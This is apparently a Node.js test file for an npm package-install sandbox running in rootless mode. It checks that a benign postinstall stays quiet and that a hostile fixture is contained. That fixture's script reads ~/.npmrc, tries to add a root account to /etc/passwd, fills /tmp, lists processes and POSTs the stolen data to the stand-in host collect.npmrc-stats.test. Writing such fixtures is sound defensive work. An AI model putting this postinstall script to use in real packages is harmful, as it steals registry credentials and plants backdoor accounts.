// The real sandbox as a normal user (rootless mode, rootless.ts): a quiet package runs quiet; a thief
// that reads ~/.npmrc and POSTs it to a .test host is recorded by the fake internet; the host's
// loopback stays out of reach, the tmpfs keeps its size, strace stays out of sight and /etc stays
// read-only. As root (CI) the runs switch to an unused uid; skipped only where the kernel forbids a
// normal user their own user namespaces (the skip says which sysctl).
import { strict as assert } from 'node:assert';
import { chmod, cp, lchown, lstat, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runAs, runBatchAs, runPhaseAs, supportAs } from './test-support/as-user.js';
import { BENIGN, describeRun, ofKind, token } from './test-support/fixtures.js';
import type { PhaseRun } from './types.js';

/** An uid no account and no other sandbox uses (root mode's sandbox runs as 61234). */
const UID = process.getuid?.() === 0 ? 61240 : (process.getuid?.() ?? 61240);
const DISK_MB = 48;

/** Reads ~/.npmrc, pokes the host's loopback, fills /tmp, tries /etc, lists processes; POSTs it all. */
function thiefScript(hostPort: number): string {
  return `
const fs = require('fs'), os = require('os'), http = require('http'), net = require('net');
const report = { npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };
let filled = 0;
try { const chunk = Buffer.alloc(1024 * 1024, 1); for (; filled < 200; filled++) fs.appendFileSync('/tmp/fill.bin', chunk); } catch (e) { report.fillError = e.code; }
report.filledMb = filled;
try { fs.rmSync('/tmp/fill.bin'); } catch {}
try { fs.appendFileSync('/etc/passwd', 'x::0:0::/:/bin/sh\\n'); report.etc = 'written'; } catch (e) { report.etc = e.code; }
report.comms = fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).map((p) => { try { return fs.readFileSync('/proc/' + p + '/comm', 'utf8').trim(); } catch { return '?'; } });
const poke = net.connect(${hostPort}, '127.0.0.1');
poke.on('connect', () => poke.end('hello host\\n'));
poke.on('error', () => undefined);
poke.on('close', () => {
  const req = http.request({ host: 'collect.npmrc-stats.test', method: 'POST', path: '/u', headers: { 'content-type': 'application/json' } }, (res) => res.resume());
  req.on('error', () => undefined);
  req.end(JSON.stringify(report));
});
`;
}

describe('sandbox: rootless (a normal user, user namespaces)', { concurrency: 2 }, () => {
  let dir = '';
  let host: Server | undefined;
  let hostConnections = 0;
  let skip: string | undefined;

  before(async () => {
    dir = await mkdtemp('/tmp/sr-rootless-test-');
    host = createServer((socket) => {
      hostConnections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => host?.listen(0, '127.0.0.1', resolve));
    const port = (host.address() as AddressInfo).port;
    await cp(join(BENIGN, 'banner-postinstall'), join(dir, 'benign'), { recursive: true });
    await mkdir(join(dir, 'thief'));
    await writeFile(
      join(dir, 'thief/package.json'),
      JSON.stringify({
        name: 'fixture-rootless-thief',
        version: '1.0.0',
        scripts: { postinstall: 'node stats.js' },
      }),
    );
    await writeFile(join(dir, 'thief/stats.js'), thiefScript(port));
    if (process.getuid?.() === 0) await chownTree(dir, UID);
    await chmod(dir, 0o700);
    const userns = await runAs(UID, ['unshare', '--user', '--map-root-user', 'true'], {
      PATH: '/usr/bin:/bin',
    });
    if (userns.code === 0) return;
    const support = await supportAs(UID, dir);
    skip = `the kernel forbids a normal user their own user namespaces: ${support.result.missing.join('; ')}`;
  });

  after(async () => {
    await new Promise<void>((resolve) => (host ? host.close(() => resolve()) : resolve()));
    await rm(dir, { recursive: true, force: true });
  });

  const run = async (name: string, packageName: string, version: string): Promise<PhaseRun> => {
    const out = await runPhaseAs(UID, dir, {
      phase: 'install',
      packageName,
      packageVersion: version,
      packageDir: join(dir, name),
      timeoutMs: 60_000,
      graceMs: 2_000,
      diskMb: DISK_MB,
    });
    assert.equal(out.uid, UID, 'the sandbox ran as the unprivileged uid');
    assert.notEqual(out.uid, 0);
    return out.result;
  };

  test('checkSandboxSupport as a normal user: ok in rootless mode, or the one sysctl to set', async (t) => {
    const support = (await supportAs(UID, dir)).result;
    if (skip) {
      assert.ok(
        support.missing.some((m) => m.includes('sysctl')),
        JSON.stringify(support),
      );
      return t.skip(skip);
    }
    assert.deepEqual(support.missing, [], JSON.stringify(support));
    assert.ok(
      support.details.some((d) => d.startsWith('mode: rootless')),
      JSON.stringify(support.details),
    );
  });

  test('a quiet postinstall runs to completion and stays quiet', async (t) => {
    if (skip) return t.skip(skip);
    const result = await run('benign', 'fixture-benign-banner', '3.39.0');
    assert.equal(result.status, 'completed', describeRun(result));
    assert.equal(result.exitCode, 0, describeRun(result));
    assert.ok(
      ofKind(result, 'process').some((e) => e.argv.join(' ') === 'node postinstall.js'),
      describeRun(result),
    );
    for (const kind of ['dns', 'connect', 'http'] as const)
      assert.deepEqual(ofKind(result, kind), [], `${kind}: ${describeRun(result)}`);
  });

  test('an ~/.npmrc thief is recorded by the fake internet; the host loopback, tmpfs, /etc and strace hold', async (t) => {
    if (skip) return t.skip(skip);
    const result = await run('thief', 'fixture-rootless-thief', '1.0.0');
    assert.equal(result.status, 'completed', describeRun(result));
    const post = ofKind(result, 'http').find(
      (e) => e.host === 'collect.npmrc-stats.test' && e.method === 'POST',
    );
    assert.ok(post, describeRun(result));
    if (!post) return;
    assert.ok(
      post.body.includes(token(result, 'file:npmrc')),
      'the .npmrc honeytoken is in the captured body',
    );
    assert.ok(
      ofKind(result, 'file').some((e) => e.path === `${result.home}/.npmrc`),
      'the read of ~/.npmrc is in the trace',
    );
    // The connection to the host's loopback port went to the sink, never to the host's server.
    const port = (host?.address() as AddressInfo).port;
    assert.ok(
      ofKind(result, 'connect').some((e) => e.address === '127.0.0.1' && e.port === port),
      describeRun(result),
    );
    assert.equal(hostConnections, 0, 'no connection reached the host');
    // The sink reads where the stream was headed (before DNAT) from the namespace's conntrack table.
    assert.ok(
      ofKind(result, 'tcp-data').some((e) => e.port === port && e.data.includes('hello host')),
      describeRun(result),
    );
    const report = JSON.parse(post.body) as {
      filledMb: number;
      fillError?: string;
      etc: string;
      comms: string[];
    };
    assert.equal(report.fillError, 'ENOSPC', post.body.slice(0, 500));
    assert.ok(report.filledMb < DISK_MB, `wrote ${report.filledMb} MiB into a ${DISK_MB} MiB tmpfs`);
    assert.equal(report.etc, 'EACCES');
    assert.ok(!report.comms.includes('strace'), report.comms.join(' '));
    assert.ok(!report.comms.includes('sleep'), 'the namespace holder is out of sight');
  });

  test('a batch: the thief owns its POST (the sink finds its socket in the user namespace), the quiet one none', async (t) => {
    if (skip) return t.skip(skip);
    const out = await runBatchAs(UID, dir, {
      phase: 'install',
      packages: [
        { name: 'fixture-benign-banner', version: '3.39.0', dir: join(dir, 'benign') },
        { name: 'fixture-rootless-thief', version: '1.0.0', dir: join(dir, 'thief') },
      ],
      timeoutMs: 60_000,
      graceMs: 2_000,
      diskMb: DISK_MB * 2,
    });
    assert.equal(out.uid, UID);
    const batch = out.result;
    const summary = JSON.stringify({
      status: batch.status,
      error: batch.error,
      details: batch.details,
    }).slice(0, 3000);
    assert.equal(batch.status, 'completed', summary);
    const [benign, thief] = batch.packages;
    assert.ok(benign && thief, summary);
    const egress = (p: typeof thief) => p.events.filter((e) => e.package === p.id && e.kind === 'http');
    assert.deepEqual(egress(benign), [], 'the quiet package owns no request');
    assert.ok(
      egress(thief).some((e) => e.kind === 'http' && e.host === 'collect.npmrc-stats.test'),
      JSON.stringify(thief.events.filter((e) => e.kind !== 'file')).slice(0, 3000),
    );
  });
});

async function chownTree(path: string, uid: number): Promise<void> {
  await lchown(path, uid, uid);
  if (!(await lstat(path)).isDirectory()) return;
  for (const entry of await readdir(path)) await chownTree(join(path, entry), uid);
}
